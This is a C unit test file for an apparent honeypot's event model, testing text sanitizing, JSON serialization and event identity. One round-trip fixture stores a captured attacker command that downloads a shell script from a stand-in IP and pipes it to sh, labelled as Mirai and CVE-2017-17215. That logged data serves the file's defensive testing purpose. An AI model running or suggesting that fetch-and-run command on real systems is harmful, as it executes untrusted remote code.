/* Unit tests for the event model: sanitizing, canonical JSON both ways,
 * identity. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <cmocka.h>
#include <stdlib.h>
#include <string.h>

#include "core/event.h"

static void test_sanitize_keeps_utf8_escapes_the_rest(void **state)
{
	char *f = NULL;

	(void)state;
	event_set_text(&f, "caf\xc3\xa9 \\x41", 10);
	assert_string_equal(f, "caf\xc3\xa9 \\x41"); /* valid UTF-8 and backslashes stay */
	event_set_text(&f, "\xff\xfbroot\r\n\0x", 10);
	assert_string_equal(f, "\\xff\\xfbroot\\x0d\\x0a\\x00x");
	event_set_text(&f, "\xed\xa0\x80", 3); /* a UTF-16 surrogate is not UTF-8 */
	assert_string_equal(f, "\\xed\\xa0\\x80");
	free(f);
}

static void test_sanitize_is_bounded(void **state)
{
	char *big = malloc(100000), *f = NULL;

	(void)state;
	memset(big, 0x01, 100000);
	event_set_text(&f, big, 100000);
	assert_true(strlen(f) <= EVENT_TEXT_MAX);
	assert_int_equal(strlen(f) % 4, 0); /* never a cut escape */
	free(f);
	free(big);
}

static void test_json_round_trip_all_fields(void **state)
{
	struct event ev, back;
	struct err err;
	char *json, *again;

	(void)state;
	event_init(&ev);
	ev.time_us = INT64_C(1740824102123456);
	ev.kind = EVENT_DOWNLOAD;
	ev.transport = TRANSPORT_TCP;
	assert_int_equal(ipaddr_parse("2001:db8::23", 12, &ev.src), 0);
	assert_int_equal(ipaddr_parse("192.0.2.5", 9, &ev.dst), 0);
	ev.src_port = 40112;
	ev.dst_port = 52869; /* above smallint on purpose */
	ev.seq = 7;
	strcpy(ev.sensor, "hp-ams-01");
	strcpy(ev.family, "mirai");
	strcpy(ev.session, "a1b2c3d4e5f6");
	event_set_text(&ev.username, "root", 4);
	event_set_text(&ev.password, "", 0);
	ev.success = 1;
	event_set_text(&ev.input, "wget http://203.0.113.50/b.sh -O- | sh", 38);
	event_set_text(&ev.url, "http://203.0.113.50/b.sh", 24);
	memset(ev.sha256, 'a', 64);
	event_set_text(&ev.cve, "CVE-2017-17215", 14);
	ev.packets = 12;
	ev.extra = strdup("{\"realm\":\"sh\",\"kind\":\"shadow attempt\"}");

	json = event_to_json(&ev);
	assert_non_null(strstr(json, "\"time\":\"2025-03-01T10:15:02.123456Z\""));
	assert_non_null(strstr(json, "\"dst_port\":52869"));
	assert_non_null(strstr(json, "\"password\":\"\""));
	assert_non_null(strstr(json, "\"realm\":\"sh\""));
	assert_null(strstr(json, "shadow attempt")); /* extra cannot shadow "kind" */
	assert_int_equal(event_from_json(json, strlen(json), &back, &err), 0);
	assert_int_equal(back.time_us, ev.time_us);
	assert_int_equal(back.kind, EVENT_DOWNLOAD);
	assert_true(ipaddr_equal(&back.src, &ev.src));
	assert_true(ipaddr_equal(&back.dst, &ev.dst));
	assert_int_equal(back.dst_port, 52869);
	assert_int_equal(back.seq, 7);
	assert_string_equal(back.password, "");
	assert_string_equal(back.sha256, ev.sha256);
	assert_int_equal(back.success, 1);
	again = event_to_json(&back);
	assert_string_equal(json, again);
	/* extra loses the shadowing key, so compare identities of the parsed form. */
	assert_int_equal(event_uid(&back), event_uid(&back));
	free(json);
	free(again);
	event_free(&ev);
	event_free(&back);
}

static void test_json_errors_name_the_field(void **state)
{
	static const struct {
		const char *json, *want;
	} cases[] = {
		{"{\"kind\":\"login\",\"src_ip\":\"192.0.2.1\"}", "\"time\""},
		{"{\"time\":\"2025-03-01T00:00:00Z\",\"kind\":\"hack\",\"src_ip\":\"192.0.2.1\"}", "\"kind\""},
		{"{\"time\":\"2025-03-01T00:00:00Z\",\"kind\":\"scan\",\"src_ip\":\"300.1.1.1\"}", "\"src_ip\""},
		{"{\"time\":\"2025-03-01T00:00:00Z\",\"kind\":\"scan\",\"src_ip\":\"192.0.2.1\",\"dst_port\":70000}",
		 "\"dst_port\""},
		{"[1,2]", "not a JSON object"},
		{"{\"time\":", "column"},
	};
	struct event ev;
	struct err err;

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		assert_int_equal(event_from_json(cases[i].json, strlen(cases[i].json), &ev, &err), -1);
		if (!strstr(err.msg, cases[i].want))
			fail_msg("case %zu: \"%s\" lacks \"%s\"", i, err.msg, cases[i].want);
	}
}

static void test_uid_depends_on_content(void **state)
{
	struct event a, b;

	(void)state;
	event_init(&a);
	a.time_us = 1;
	a.kind = EVENT_LOGIN;
	ipaddr_from_v4(0xc0000201, &a.src);
	event_set_text(&a.username, "root", 4);
	event_copy(&b, &a);
	assert_int_equal(event_uid(&a), event_uid(&b));
	event_set_text(&b.username, "roo", 3);
	event_set_text(&b.password, "t", 1); /* same bytes, other split */
	event_set_text(&a.password, "", 0);
	assert_int_not_equal(event_uid(&a), event_uid(&b));
	assert_true(event_uid(&a) >= 0);
	event_free(&a);
	event_free(&b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_sanitize_keeps_utf8_escapes_the_rest),
		cmocka_unit_test(test_sanitize_is_bounded),
		cmocka_unit_test(test_json_round_trip_all_fields),
		cmocka_unit_test(test_json_errors_name_the_field),
		cmocka_unit_test(test_uid_depends_on_content),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
